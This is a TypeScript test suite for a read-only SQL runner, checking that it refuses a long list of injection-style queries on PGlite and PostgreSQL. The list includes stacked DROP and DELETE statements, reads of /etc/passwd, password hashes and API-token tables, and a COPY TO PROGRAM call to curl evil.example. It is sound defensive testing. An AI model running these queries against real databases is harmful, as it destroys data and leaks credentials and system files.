import { describeWithInfra } from '@huntforge/test-kit';
import { createArticle, createSource, createTestContext, type TestContext } from '@huntforge/service-testing';
import { ReadOnlySqlRunner } from '../repositories/read-only-sql-runner';
import { READ_ONLY_ROLE, READ_ONLY_TABLES } from './table-allowlist';

/** Queries a caller might try to turn read-only SQL into something else. Every one must be refused. */
export const ATTACK_QUERIES: ReadonlyArray<[string, string]> = [
  ['a second statement', 'SELECT 1; DROP TABLE articles'],
  ['two selects', 'SELECT 1; SELECT 2'],
  ['a data-modifying CTE (DELETE)', 'WITH d AS (DELETE FROM articles RETURNING id) SELECT * FROM d'],
  ['a data-modifying CTE (UPDATE)', 'WITH u AS (UPDATE sources SET active = false RETURNING id) SELECT * FROM u'],
  [
    'a data-modifying CTE (INSERT)',
    "WITH i AS (INSERT INTO sources (identifier, name, url, kind) VALUES ('x','x','x','rss') RETURNING id) SELECT * FROM i",
  ],
  ['SELECT ... FOR UPDATE', 'SELECT * FROM articles FOR UPDATE'],
  ['SELECT ... FOR SHARE', 'SELECT id FROM sources FOR SHARE'],
  ['SELECT ... FOR NO KEY UPDATE', 'SELECT id FROM sources FOR NO KEY UPDATE SKIP LOCKED'],
  ['SELECT INTO a new table', 'SELECT * INTO stolen FROM articles'],
  ['set_config', "SELECT set_config('statement_timeout', '0', false)"],
  ['pg_read_file', "SELECT pg_read_file('/etc/passwd')"],
  ['pg_ls_dir in FROM', "SELECT * FROM pg_ls_dir('.')"],
  ['lo_import', "SELECT lo_import('/etc/passwd')"],
  ['COPY ... TO PROGRAM', "COPY articles TO PROGRAM 'curl http://evil.example'"],
  ['COPY a query to a file', "COPY (SELECT 1) TO '/tmp/x'"],
  ['pg_sleep', 'SELECT pg_sleep(10)'],
  ['pg_sleep schema-qualified', 'SELECT pg_catalog.pg_sleep(10)'],
  ['pg_sleep as a quoted identifier', 'SELECT "pg_sleep"(10)'],
  ['a Unicode-escaped identifier', 'SELECT U&"\\0070g_sleep"(10)'],
  ['an advisory lock', 'SELECT pg_advisory_lock(42)'],
  ['nextval', "SELECT nextval('articles_id_seq')"],
  ['dblink', "SELECT * FROM dblink('host=evil.example', 'select 1') AS t(x int)"],
  ['query_to_xml running other SQL', "SELECT query_to_xml('DELETE FROM articles RETURNING 1', true, true, '')"],
  ['current_setting', "SELECT current_setting('data_directory')"],
  ['pg_terminate_backend', 'SELECT pg_terminate_backend(1)'],
  ['txid_current (assigns a transaction id)', 'SELECT txid_current()'],
  ['the settings table', 'SELECT * FROM settings'],
  ['the api_tokens table', 'SELECT token_hash FROM api_tokens'],
  ['a quoted credential table', 'SELECT * FROM "api_tokens"'],
  ['a schema-qualified audit table', 'SELECT * FROM public.audit_events'],
  ['the confirmation requests', 'SELECT * FROM mcp_confirmation_requests'],
  ['system prompts of enrichment conversations', 'SELECT system_prompt FROM enrichment_conversations'],
  ['pg_authid (password hashes)', 'SELECT rolpassword FROM pg_authid'],
  ['pg_shadow via pg_catalog', 'SELECT * FROM pg_catalog.pg_shadow'],
  ['a credential table inside a subquery', 'SELECT (SELECT count(*) FROM settings) AS n'],
  ['a statement hidden after a block comment', 'SELECT 1 /* ; */ ; DELETE FROM articles'],
  ['a statement after a line comment', 'SELECT 1 -- harmless\n; DELETE FROM articles'],
  ['a statement after a dollar-quoted string', 'SELECT $$;$$; DELETE FROM articles'],
  ['a statement after an escape string', "SELECT E'\\\\'; DELETE FROM articles; --'"],
  ['nested comments hiding nothing but ending early', 'SELECT 1 /* outer /* inner */ still comment */; UPDATE sources SET active = false'],
  ['an unterminated comment', 'SELECT 1 /* DELETE FROM articles'],
  ['an unterminated string', "SELECT 'abc"],
  ['a leading comment before DELETE', '/* look: SELECT */ DELETE FROM articles'],
  ['EXPLAIN ANALYZE of a write', 'EXPLAIN ANALYZE DELETE FROM articles'],
  ['SET ROLE', 'SET ROLE postgres'],
  ['RESET ROLE', 'RESET ROLE'],
  ['a DO block', 'DO $$BEGIN DELETE FROM articles; END$$'],
  ['TABLE shorthand on a credential table', 'TABLE settings'],
  ['LOCK TABLE', 'LOCK TABLE articles'],
  ['query parameters', 'SELECT * FROM articles WHERE id = $1'],
  ['CREATE TABLE AS', 'CREATE TABLE copy AS SELECT * FROM articles'],
  ['a psql meta command', 'SELECT 1 \\g /tmp/out'],
];

// The cursor's query runs at FETCH, whose text does not name pg_sleep: find it by what it waits on.
const SLEEPING_BACKENDS = "SELECT pid FROM pg_stat_activity WHERE wait_event = 'PgSleep' AND datname = current_database()";

/** Waits until the test's pg_sleep statement is running on some backend. */
async function waitForSleepingBackend(ctx: TestContext): Promise<void> {
  for (let i = 0; i < 100; i++) {
    const rows = await ctx.db.prisma.$queryRawUnsafe<unknown[]>(SLEEPING_BACKENDS);
    if (rows.length > 0) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('the pg_sleep statement never started');
}

function sqlSuite(kind: 'pglite' | 'postgres'): void {
  let ctx: TestContext;
  let runner: ReadOnlySqlRunner;
  let articleId: number;

  beforeAll(async () => {
    ctx = await createTestContext({ db: kind, service: 'mcp-sql' });
    runner = new ReadOnlySqlRunner(ctx.db.prisma, ctx.db.kind);
    const source = await createSource(ctx.db.prisma, { identifier: 'sql-src', name: 'SQL' });
    const article = await createArticle(ctx.db.prisma, { sourceId: source.id, title: 'a;b', content: 'text' });
    articleId = article.id;
    await ctx.db.prisma.setting.create({ data: { key: 'OPENAI_API_KEY', isSecret: true, ciphertext: 'c2VjcmV0', hint: '…1234' } });
  });
  afterAll(() => ctx.dispose());

  it.each(ATTACK_QUERIES)('refuses %s', async (_label, sql) => {
    await expect(runner.run(sql)).rejects.toMatchObject({ code: 'sql_refused' });
  });

  it('left the data alone', async () => {
    expect(await ctx.db.prisma.article.count()).toBe(1);
    expect(await ctx.db.prisma.source.findMany({ select: { active: true } })).toEqual([{ active: true }]);
  });

  it('still runs honest queries whose strings and comments hold the same words', async () => {
    const result = await runner.run(
      "SELECT id, 'DELETE FROM articles; --' AS text, $q$ ; DROP $q$ AS dollar /* ; UPDATE */ FROM articles WHERE title = 'a;b' -- ; INSERT\n;",
    );
    expect(result.rows).toEqual([{ id: articleId, text: 'DELETE FROM articles; --', dollar: ' ; DROP ' }]);
    const joined = await runner.run(
      'WITH recent AS (SELECT a.id, s.identifier FROM articles a JOIN sources s ON s.id = a.source_id) SELECT identifier, count(*) AS n FROM recent GROUP BY identifier',
    );
    expect(joined.rows).toEqual([{ identifier: 'sql-src', n: 1 }]);
  });

  describe('the database side alone (statement checker bypassed)', () => {
    const refusedByDatabase = async (sql: string) => {
      await expect(runner.execute(sql, 10)).rejects.toMatchObject({ code: 'sql_failed' });
    };

    it('denies the credential and bookkeeping tables to the read-only role', async () => {
      for (const table of ['settings', 'api_tokens', 'mcp_confirmation_requests', 'audit_events', 'enrichment_conversations']) {
        await refusedByDatabase(`SELECT * FROM ${table}`);
      }
    });

    it('refuses writes, row locks and sequences inside the READ ONLY transaction', async () => {
      await refusedByDatabase('SELECT * FROM articles FOR UPDATE');
      await refusedByDatabase("SELECT nextval('articles_id_seq')");
      await refusedByDatabase('WITH d AS (DELETE FROM articles RETURNING id) SELECT * FROM d');
      await refusedByDatabase("SELECT pg_read_file('/etc/hostname')");
      expect(await ctx.db.prisma.article.count()).toBe(1);
    });

    it('grants the role SELECT on exactly the allowlisted tables', async () => {
      const rows = await ctx.db.prisma.$queryRawUnsafe<Array<{ table_name: string }>>(
        `SELECT c.relname AS table_name FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
         WHERE n.nspname = current_schema() AND c.relkind = 'r' AND has_table_privilege($1, c.oid, 'SELECT')`,
        READ_ONLY_ROLE,
      );
      expect(rows.map((row) => row.table_name).sort()).toEqual(Object.keys(READ_ONLY_TABLES).sort());
    });
  });

  it('discards the rows of a query whose caller has already gone', async () => {
    const aborted = new AbortController();
    aborted.abort();
    await expect(runner.run('SELECT id FROM articles', 10, aborted.signal)).rejects.toMatchObject({ code: 'cancelled' });
  });

  if (kind === 'postgres') {
    it('cancels the running statement on PostgreSQL when the caller aborts', async () => {
      const caller = new AbortController();
      // pg_sleep(4) would finish inside the 5 s statement timeout: only the cancel can stop it.
      const running = runner.execute('SELECT pg_sleep(4)', 1, caller.signal);
      await waitForSleepingBackend(ctx);
      caller.abort();
      await expect(running).rejects.toMatchObject({ code: 'cancelled' });
      const still = await ctx.db.prisma.$queryRawUnsafe<unknown[]>(SLEEPING_BACKENDS);
      expect(still).toEqual([]);
    }, 20_000);

    // PGlite runs in one WebAssembly thread without timer signals, so only PostgreSQL can enforce this.
    it('cancels a statement after the 5 s statement timeout', async () => {
      await expect(runner.execute('SELECT pg_sleep(7)', 1)).rejects.toMatchObject({
        code: 'sql_failed',
        message: expect.stringContaining('statement timeout'),
      });
    }, 20_000);
  }
}

describe('read-only SQL attack suite on PGlite', () => sqlSuite('pglite'));
describeWithInfra('postgres')('read-only SQL attack suite on PostgreSQL', () => sqlSuite('postgres'));
